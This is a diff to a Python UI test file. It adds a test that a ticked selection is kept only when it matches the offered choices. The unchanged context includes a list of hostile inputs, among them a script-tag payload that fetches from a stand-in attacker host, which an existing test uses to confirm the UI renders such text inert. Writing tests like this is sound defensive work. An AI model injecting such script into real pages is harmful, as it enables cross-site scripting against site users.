@@ -25,6 +25,7 @@ from ui.app import serve
 from ui.assembly import Fathom
 from ui.formatting import amount, error_html, plain_html, receipt_text
 from ui.tabs.evidence import evidence_html
+from ui.tabs.parts import offered
 
 HOSTILE = [
     "<script>fetch('http://evil.example')</script>",
@@ -95,6 +96,13 @@ def test_hostile_text_is_shown_and_does_nothing(text: str) -> None:
     assert "://" not in shown
     for tag in set(TAGS.split()) - {"li", "ul"}:
         assert not re.search(rf"<{tag}[\s>/]", shown), (tag, shown)
+
+
+def test_what_is_ticked_while_the_choices_come_stays() -> None:
+    choices = [("tides.txt", 1), ("handbook.md", 2)]
+    assert "value" not in offered(choices, [])
+    assert "value" not in offered(choices, [2])
+    assert offered(choices, [2, 3])["value"] == [2]
 
 
 def test_a_command_in_a_hint_is_shown_as_it_is_typed() -> None:
